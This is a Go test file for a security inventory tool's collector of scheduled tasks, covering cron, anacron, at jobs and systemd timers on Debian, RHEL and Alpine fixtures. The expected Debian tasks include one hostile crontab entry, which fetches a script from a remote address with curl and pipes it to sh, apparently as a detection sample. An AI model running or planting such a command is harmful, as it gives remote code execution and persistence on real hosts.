package scheduled

import (
	"context"
	"errors"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"

	"github.com/vigilsec/vigil/internal/collector"
	"github.com/vigilsec/vigil/internal/inventory"
	"github.com/vigilsec/vigil/internal/plugin"
	"github.com/vigilsec/vigil/internal/testutil"
	"github.com/vigilsec/vigil/internal/textio"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// collect runs the collector on a root and splits its error into
// per-record problems.
func collect(t *testing.T, root string) ([]inventory.ScheduledTask, []string, error) {
	t.Helper()
	inv, err := New().Collect(context.Background(), &collector.Input{Root: os.DirFS(root), RootPath: root})
	var pe *plugin.PartialError
	if err != nil && !errors.As(err, &pe) {
		return nil, nil, err
	}
	var problems []string
	if pe != nil {
		problems = pe.Problems
	}
	return inv.ScheduledTasks, problems, nil
}

func TestCollect(t *testing.T) {
	tests := []struct {
		name         string
		want         []inventory.ScheduledTask
		wantProblems []string
	}{
		{
			name: "debian",
			want: []inventory.ScheduledTask{
				{Type: "cron", User: "root", Schedule: "17 * * * *", Command: "cd / && run-parts --report /etc/cron.hourly", Source: "/etc/crontab", Line: 18, Enabled: true},
				{Type: "cron", User: "root", Schedule: "25 6 * * *", Command: "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", Source: "/etc/crontab", Line: 19, Enabled: true},
				{Type: "cron", User: "root", Schedule: "47 6 * * 7", Command: "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }", Source: "/etc/crontab", Line: 20, Enabled: true},
				{Type: "cron", User: "root", Schedule: "52 6 1 * *", Command: "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }", Source: "/etc/crontab", Line: 21, Enabled: true},
				{Type: "cron", User: "root", Schedule: "0 2 * * *", Command: "/usr/local/bin/backup.sh", Source: "/etc/cron.d/backup.dpkg-old", Line: 2},
				{Type: "cron", User: "root", Schedule: "0 */12 * * *", Command: "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew", Source: "/etc/cron.d/certbot", Line: 5, Enabled: true},
				{Type: "cron", User: "root", Schedule: "30 3 * * 0", Command: "test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", Source: "/etc/cron.d/e2scrub_all", Line: 1, Enabled: true},
				{Type: "cron", User: "root", Schedule: "10 3 * * *", Command: "test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r", Source: "/etc/cron.d/e2scrub_all", Line: 2, Enabled: true},
				{Type: "cron", User: "root", Schedule: "@reboot", Command: "/usr/local/bin/startup.sh", Source: "/etc/cron.d/local-jobs", Line: 3, Enabled: true},
				{Type: "cron", User: "www-data", Schedule: "0 22 * * MON-Fri", Command: "/usr/bin/php /var/www/html/artisan schedule:run", Source: "/etc/cron.d/local-jobs", Line: 13, Enabled: true},
				{Type: "cron", User: "root", Schedule: "09,39 * * * *", Command: "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi", Source: "/etc/cron.d/php", Line: 14, Enabled: true},
				{Type: "cron", User: "alice", Schedule: "*/15 9-17 * * mon-fri", Command: "/home/alice/bin/sync.sh >/dev/null 2>&1", Source: "/var/spool/cron/crontabs/alice", Line: 5, Enabled: true},
				{Type: "cron", User: "alice", Schedule: "0 0 1 jan,jul *", Command: "/home/alice/bin/rotate", Source: "/var/spool/cron/crontabs/alice", Line: 6, Enabled: true},
				{Type: "cron", User: "alice", Schedule: "@daily", Command: "curl -s http://203.0.113.7/x.sh | sh", Source: "/var/spool/cron/crontabs/alice", Line: 7, Enabled: true},
				{Type: "cron", User: "olduser", Schedule: "30 4 * * *", Command: "/home/olduser/bin/cleanup", Source: "/var/spool/cron/crontabs/olduser", Line: 2},
				{Type: "cron_dir", User: "root", Schedule: "daily", Command: "/etc/cron.daily/apt-compat", Source: "/etc/cron.daily/apt-compat", Enabled: true},
				{Type: "cron_dir", User: "root", Schedule: "daily", Command: "/etc/cron.daily/dpkg", Source: "/etc/cron.daily/dpkg", Enabled: true},
				{Type: "cron_dir", User: "root", Schedule: "daily", Command: "/etc/cron.daily/logrotate.dpkg-dist", Source: "/etc/cron.daily/logrotate.dpkg-dist"},
				{Type: "cron_dir", User: "root", Schedule: "weekly", Command: "/etc/cron.weekly/man-db", Source: "/etc/cron.weekly/man-db", Enabled: true},
				{Type: "anacron", User: "root", Schedule: "period=1 delay=5", Command: "run-parts --report /etc/cron.daily", Source: "/etc/anacrontab", Line: 10, Enabled: true},
				{Type: "anacron", User: "root", Schedule: "period=7 delay=10", Command: "run-parts --report /etc/cron.weekly", Source: "/etc/anacrontab", Line: 11, Enabled: true},
				{Type: "anacron", User: "root", Schedule: "period=@monthly delay=15", Command: "run-parts --report /etc/cron.monthly", Source: "/etc/anacrontab", Line: 12, Enabled: true},
				{Type: "at", User: "alice", Schedule: "2026-11-27T16:50:00Z", Command: "echo hello world >/tmp/x; ls -l\n/home/alice/bin/report --mail", Source: "/var/spool/cron/atjobs/a0000101c8b1f2", Enabled: true},
				{Type: "at", User: "root", Schedule: "2026-11-27T19:44:00Z", Command: "/usr/sbin/reboot", Source: "/var/spool/cron/atjobs/b0000201c8b2a0"},
				{Type: "systemd_timer", User: "root", Schedule: "OnCalendar=*-*-* 6,18:00", Command: "/usr/lib/apt/apt.systemd.daily update", Source: "/usr/lib/systemd/system/apt-daily.timer", Unit: "apt-daily.service", Enabled: true},
				{Type: "systemd_timer", User: "backup", Schedule: "OnCalendar=Mon..Fri 02:30; OnCalendar=Sat,Sun 04:00", Command: "/usr/local/bin/db-dump      --all-databases      --out /var/backups/db; /usr/bin/find /var/backups/db -mtime +7 -delete", Source: "/etc/systemd/system/db-backup.timer", Unit: "db-dump.service", Enabled: true},
				{Type: "systemd_timer", User: "root", Schedule: "OnCalendar=weekly", Command: "/sbin/fstrim --listed-in /etc/fstab:/proc/self/mountinfo --verbose --quiet-unsupported", Source: "/usr/lib/systemd/system/fstrim.timer", Unit: "fstrim.service"},
				{Type: "systemd_timer", User: "root", Schedule: "OnCalendar=hourly", Command: "/usr/sbin/logrotate /etc/logrotate.conf", Source: "/usr/lib/systemd/system/logrotate.timer", Unit: "logrotate.service", Enabled: true},
				{Type: "systemd_timer", User: "root", Schedule: "OnActiveSec=1h", Command: "", Source: "/etc/systemd/system/orphan.timer", Unit: "orphan.service"},
				{Type: "systemd_timer", User: "root", Schedule: "OnBootSec=15min; OnUnitActiveSec=1d", Command: "systemd-tmpfiles --clean", Source: "/usr/lib/systemd/system/systemd-tmpfiles-clean.timer", Unit: "systemd-tmpfiles-clean.service", Enabled: true},
			},
			wantProblems: []string{
				"/etc/cron.d/local-jobs:4: unknown special schedule \"@often\"",
				"/etc/cron.d/local-jobs:5: bad minute field \"61\": 61 out of range 0-59",
				"/etc/cron.d/local-jobs:6: bad day of week field \"1-8\": 8 out of range 0-7",
				"/etc/cron.d/local-jobs:7: bad month field \"foo\": bad value \"foo\"",
				"/etc/cron.d/local-jobs:8: bad minute field \"*/0\": bad step \"0\"",
				"/etc/cron.d/local-jobs:9: bad minute field \"5-1\": range \"5-1\" runs backwards",
				"/etc/cron.d/local-jobs:10: bad day of month field \"1,,2\": empty list element",
				"/etc/cron.d/local-jobs:11: missing user",
				"/etc/cron.d/local-jobs:12: missing command",
				"/etc/anacrontab:13: bad period \"x\"",
				"/var/spool/cron/atjobs/a0000301c8b300: no \"# atrun uid=\" header",
				"timer \"orphan.timer\": activated unit \"orphan.service\": file does not exist",
			},
		},
		{
			name: "rhel",
			want: []inventory.ScheduledTask{
				{Type: "cron", User: "root", Schedule: "01 * * * *", Command: "run-parts /etc/cron.hourly", Source: "/etc/cron.d/0hourly", Line: 5, Enabled: true},
				{Type: "cron", User: "root", Schedule: "*/10 * * * *", Command: "/usr/lib64/sa/sa1 1 1", Source: "/etc/cron.d/sysstat.cron", Line: 2, Enabled: true},
				{Type: "cron", User: "root", Schedule: "53 23 * * *", Command: "/usr/lib64/sa/sa2 -A", Source: "/etc/cron.d/sysstat.cron", Line: 4, Enabled: true},
				{Type: "cron", User: "root", Schedule: "*/5 * * * *", Command: "/usr/lib64/sa/sa1 1 1", Source: "/etc/cron.d/sysstat.cron.rpmsave", Line: 1},
				{Type: "cron", User: "deploy", Schedule: "@reboot", Command: "/home/deploy/app/start.sh", Source: "/var/spool/cron/deploy", Line: 1, Enabled: true},
				{Type: "cron", User: "root", Schedule: "*/5 * * * *", Command: "/usr/local/bin/healthcheck.sh >/dev/null 2>&1", Source: "/var/spool/cron/root", Line: 1, Enabled: true},
				{Type: "cron", User: "root", Schedule: "0 3 * * sun", Command: "/usr/bin/dnf -y update --security", Source: "/var/spool/cron/root", Line: 2, Enabled: true},
				{Type: "cron_dir", User: "root", Schedule: "hourly", Command: "/etc/cron.hourly/0anacron", Source: "/etc/cron.hourly/0anacron", Enabled: true},
				{Type: "cron_dir", User: "root", Schedule: "daily", Command: "/etc/cron.daily/logrotate", Source: "/etc/cron.daily/logrotate", Enabled: true},
				{Type: "cron_dir", User: "root", Schedule: "daily", Command: "/etc/cron.daily/logrotate.rpmnew", Source: "/etc/cron.daily/logrotate.rpmnew"},
				{Type: "anacron", User: "root", Schedule: "period=1 delay=5", Command: "nice run-parts /etc/cron.daily", Source: "/etc/anacrontab", Line: 14, Enabled: true},
				{Type: "anacron", User: "root", Schedule: "period=7 delay=25", Command: "nice run-parts /etc/cron.weekly", Source: "/etc/anacrontab", Line: 15, Enabled: true},
				{Type: "anacron", User: "root", Schedule: "period=@monthly delay=45", Command: "nice run-parts /etc/cron.monthly", Source: "/etc/anacrontab", Line: 16, Enabled: true},
				{Type: "at", User: "root", Schedule: "2019-10-26T08:30:00Z", Command: "systemctl restart httpd\necho done | mail -s restarted root", Source: "/var/spool/at/a00003018fccde", Enabled: true},
				{Type: "systemd_timer", User: "root", Schedule: "OnBootSec=10min; OnUnitInactiveSec=1h", Command: "/usr/bin/dnf makecache --timer", Source: "/usr/lib/systemd/system/dnf-makecache.timer", Unit: "dnf-makecache.service", Enabled: true},
				{Type: "systemd_timer", User: "root", Schedule: "OnCalendar=Sun *-*-* 01:00:00", Command: "/usr/sbin/raid-check", Source: "/usr/lib/systemd/system/raid-check.timer", Unit: "raid-check.service"},
			},
		},
		{
			name: "alpine",
			want: []inventory.ScheduledTask{
				{Type: "cron", User: "nginx", Schedule: "0 4 * * *", Command: "/usr/sbin/nginx -s reopen", Source: "/etc/crontabs/nginx", Line: 1, Enabled: true},
				{Type: "cron", User: "root", Schedule: "*/15 * * * *", Command: "run-parts /etc/periodic/15min", Source: "/etc/crontabs/root", Line: 3, Enabled: true},
				{Type: "cron", User: "root", Schedule: "0 * * * *", Command: "run-parts /etc/periodic/hourly", Source: "/etc/crontabs/root", Line: 4, Enabled: true},
				{Type: "cron", User: "root", Schedule: "0 2 * * *", Command: "run-parts /etc/periodic/daily", Source: "/etc/crontabs/root", Line: 5, Enabled: true},
				{Type: "cron", User: "root", Schedule: "0 3 * * 6", Command: "run-parts /etc/periodic/weekly", Source: "/etc/crontabs/root", Line: 6, Enabled: true},
				{Type: "cron", User: "root", Schedule: "0 5 1 * *", Command: "run-parts /etc/periodic/monthly", Source: "/etc/crontabs/root", Line: 7, Enabled: true},
				{Type: "cron_dir", User: "root", Schedule: "daily", Command: "/etc/periodic/daily/backup.sh", Source: "/etc/periodic/daily/backup.sh"},
				{Type: "cron_dir", User: "root", Schedule: "daily", Command: "/etc/periodic/daily/logrotate", Source: "/etc/periodic/daily/logrotate", Enabled: true},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root := testutil.TxtarToDir(t, "testdata/"+tt.name+".txtar")
			got, problems, err := collect(t, root)
			if err != nil {
				t.Fatalf("Collect: %v", err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("tasks (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.wantProblems, problems); diff != "" {
				t.Errorf("problems (-want +got):\n%s", diff)
			}
		})
	}
}

func TestCollectSkipsEmptyRoot(t *testing.T) {
	_, err := New().Collect(context.Background(), &collector.Input{Root: os.DirFS(t.TempDir())})
	if !errors.Is(err, plugin.ErrSkipped) {
		t.Fatalf("Collect on an empty root: got %v, want a skip", err)
	}
}

func TestCollectCanceled(t *testing.T) {
	root := testutil.TxtarToDir(t, "testdata/debian.txtar")
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := New().Collect(ctx, &collector.Input{Root: os.DirFS(root)}); !errors.Is(err, context.Canceled) {
		t.Fatalf("Collect with a canceled context: got %v, want context.Canceled", err)
	}
}

func TestParseCrontab(t *testing.T) {
	in := "# comment\n" +
		"   \n" +
		"SHELL=/bin/bash\n" +
		"MAILTO = \"ops@example.com\"\n" +
		"'A B'='x y'\n" +
		"*/5\t*  *  *  *\t/usr/bin/true   \n" +
		"0 0-23/2 1-31/3 JAN-dec,6 sun,1-5/2 /bin/a\n" +
		"5/10 0 1 1 7 /bin/b\n" +
		"@hourly /bin/c\n" +
		"@DAILY /bin/d\n" +
		"60 * * * * /bin/e\n" +
		"* * * * * \n" +
		"* 24 * * * /bin/f\n" +
		"* * 0 * * /bin/g\n" +
		"* * * 13 * /bin/h\n" +
		"* * * * mon-sun/x /bin/i\n" +
		"1-2-3 * * * * /bin/j\n" +
		"* * *\n"
	got, err := parseCrontab(strings.NewReader(in), false)
	if err != nil {
		t.Fatal(err)
	}
	want := &crontab{
		Jobs: []cronJob{
			{Line: 6, Schedule: "*/5 * * * *", Command: "/usr/bin/true"},
			{Line: 7, Schedule: "0 0-23/2 1-31/3 JAN-dec,6 sun,1-5/2", Command: "/bin/a"},
			{Line: 8, Schedule: "5/10 0 1 1 7", Command: "/bin/b"},
			{Line: 9, Schedule: "@hourly", Command: "/bin/c"},
		},
		Env: []cronEnv{
			{Line: 3, Name: "SHELL", Value: "/bin/bash"},
			{Line: 4, Name: "MAILTO", Value: "ops@example.com"},
			{Line: 5, Name: "A B", Value: "x y"},
		},
		Errors: []lineError{
			{10, `unknown special schedule "@DAILY"`},
			{11, `bad minute field "60": 60 out of range 0-59`},
			{12, "missing command"},
			{13, `bad hour field "24": 24 out of range 0-23`},
			{14, `bad day of month field "0": 0 out of range 1-31`},
			{15, `bad month field "13": 13 out of range 1-12`},
			{16, `bad day of week field "mon-sun/x": bad step "x"`},
			{17, `bad minute field "1-2-3": bad number "2-3"`},
			{18, "missing month field"},
		},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("parseCrontab (-want +got):\n%s", diff)
	}
}

func TestParseCrontabLongLine(t *testing.T) {
	in := "* * * * * root /bin/" + strings.Repeat("x", maxLine) + "\n@reboot root /bin/ok\n"
	got, err := parseCrontab(strings.NewReader(in), true)
	if err != nil {
		t.Fatal(err)
	}
	want := &crontab{
		Jobs:   []cronJob{{Line: 2, Schedule: "@reboot", User: "root", Command: "/bin/ok"}},
		Errors: []lineError{{1, "line longer than 65536 bytes"}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("parseCrontab (-want +got):\n%s", diff)
	}
}

func TestParseAtJob(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		want    *atJob
		wantErr string
	}{
		{
			name: "debian_plain_commands",
			in: "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nHOME=/home/alice; export HOME\n" +
				"cd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n" +
				"echo one\n\n  echo two\n\n",
			want: &atJob{UID: 1000, MailUser: "alice", Command: "echo one\n  echo two"},
		},
		{
			name: "redhat_heredoc",
			in: "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || {\n\t echo 'x' >&2\n\t exit 1\n}\n" +
				"${SHELL:-/bin/sh} << 'marcinDELIMITER52285d1c'\ndate -Is >> /tmp/veille.log\nmarcinDELIMITER52285d1c\n" +
				"echo not part of the job\n",
			want: &atJob{UID: 0, MailUser: "root", Command: "date -Is >> /tmp/veille.log"},
		},
		{
			name:    "no_header",
			in:      "#!/bin/sh\ncd / || {\n}\necho x\n",
			wantErr: `no "# atrun uid=" header`,
		},
		{
			name:    "no_cd_preamble",
			in:      "#!/bin/sh\n# atrun uid=0 gid=0\necho x\n",
			wantErr: `no command after the "cd" preamble`,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := parseAtJob(strings.NewReader(tt.in))
			if tt.wantErr != "" {
				if err == nil || err.Error() != tt.wantErr {
					t.Fatalf("parseAtJob: got error %v, want %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("parseAtJob (-want +got):\n%s", diff)
			}
		})
	}
}

func TestAtFileTime(t *testing.T) {
	q, due, ok := atFileTime("a0000101c8b1f2")
	if !ok || q != 'a' || due.Format("2006-01-02T15:04:05Z07:00") != "2026-11-27T16:50:00Z" {
		t.Errorf("atFileTime(a0000101c8b1f2) = %c %v %v", q, due, ok)
	}
	for _, bad := range []string{".SEQ", "spool", "a0000101c8b1f", "a0000101c8b1f2x", "!0000101c8b1f2", "a00001g1c8b1f2"} {
		if _, _, ok := atFileTime(bad); ok {
			t.Errorf("atFileTime(%q) accepted", bad)
		}
	}
}

// contentLines returns the numbers of the lines of a crontab-like file
// that are neither blank nor comments.
func contentLines(data string) map[int]bool {
	m := make(map[int]bool)
	lr := textio.NewReader(strings.NewReader(data), maxLine)
	for lr.Next() {
		if l := strings.TrimLeft(lr.Text(), " \t"); l != "" && l[0] != '#' {
			m[lr.Num()] = true
		}
	}
	return m
}

// accountFor checks that the lines behind jobs, environment settings and
// errors are exactly the content lines, each used once.
func accountFor(t *testing.T, data string, lines ...[]int) {
	t.Helper()
	content := contentLines(data)
	seen := make(map[int]bool)
	for _, group := range lines {
		for _, n := range group {
			if seen[n] || !content[n] {
				t.Fatalf("line %d reported twice or is not a content line", n)
			}
			seen[n] = true
		}
	}
	if len(seen) != len(content) {
		t.Fatalf("%d content lines, %d accounted for", len(content), len(seen))
	}
}

// FuzzParseCrontab checks that every non-comment line of a crontab turns
// into exactly one job, environment setting or error, that job schedules
// pass validation again, and that commands are non-empty.
func FuzzParseCrontab(f *testing.F) {
	for _, s := range []string{
		"SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n",
		"@reboot root /usr/local/bin/startup.sh\n61 * * * * root x\n",
		"*/15 9-17 * * mon-fri /home/alice/bin/sync.sh\n0 0 1 jan,jul * x\nMAILTO=\"\"\n",
		"'A'=b\n\"C\" = d\n* * *\n5/10 0 1 1 7 /bin/b\r\n",
	} {
		f.Add(s, true)
		f.Add(s, false)
	}
	f.Fuzz(func(t *testing.T, data string, system bool) {
		ct, err := parseCrontab(strings.NewReader(data), system)
		if err != nil {
			t.Fatalf("parseCrontab: %v", err)
		}
		var jobs, env, errs []int
		for _, j := range ct.Jobs {
			jobs = append(jobs, j.Line)
			if j.Command == "" || (system && j.User == "") || (!system && j.User != "") {
				t.Fatalf("bad job %+v", j)
			}
			if !specials[j.Schedule] {
				f := strings.Split(j.Schedule, " ")
				if len(f) != 5 {
					t.Fatalf("schedule %q has %d fields", j.Schedule, len(f))
				}
				for i := range f {
					if err := checkField(f[i], cronFields[i]); err != nil {
						t.Fatalf("schedule %q: %v", j.Schedule, err)
					}
				}
			}
		}
		for _, e := range ct.Env {
			env = append(env, e.Line)
		}
		for _, e := range ct.Errors {
			errs = append(errs, e.Line)
		}
		accountFor(t, data, jobs, env, errs)
	})
}

// FuzzParseAnacrontab checks the same accounting for anacrontab.
func FuzzParseAnacrontab(f *testing.F) {
	f.Add("SHELL=/bin/sh\nSTART_HOURS_RANGE=3-22\n1\t5\tcron.daily\tnice run-parts /etc/cron.daily\n@monthly 45 m x\n")
	f.Add("x 1 y z\n1 -1 y z\n1 1 a/b z\n1 1 id\n")
	f.Fuzz(func(t *testing.T, data string) {
		at, err := parseAnacrontab(strings.NewReader(data))
		if err != nil {
			t.Fatalf("parseAnacrontab: %v", err)
		}
		var jobs, env, errs []int
		for _, j := range at.Jobs {
			jobs = append(jobs, j.Line)
			if j.Command == "" || j.ID == "" || j.Period == "" || j.Delay == "" {
				t.Fatalf("bad job %+v", j)
			}
		}
		for _, e := range at.Env {
			env = append(env, e.Line)
		}
		for _, e := range at.Errors {
			errs = append(errs, e.Line)
		}
		accountFor(t, data, jobs, env, errs)
	})
}

// FuzzParseAtJob checks that a parsed job has a uid and a bounded command
// made only of non-blank lines of the input.
func FuzzParseAtJob(f *testing.F) {
	f.Add("#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd / || {\n\t exit 1\n}\necho hi\n")
	f.Add("#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || {\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER1'\nls\nmarcinDELIMITER1\n")
	f.Fuzz(func(t *testing.T, data string) {
		job, err := parseAtJob(strings.NewReader(data))
		if err != nil {
			return
		}
		if job.UID < 0 || len(job.Command) > maxCommand {
			t.Fatalf("bad job uid %d, command of %d bytes", job.UID, len(job.Command))
		}
		for _, l := range strings.Split(job.Command, "\n") {
			if job.Command != "" && (strings.TrimSpace(l) == "" || !strings.Contains(data, l)) {
				t.Fatalf("command line %q is blank or not from the input", l)
			}
		}
	})
}
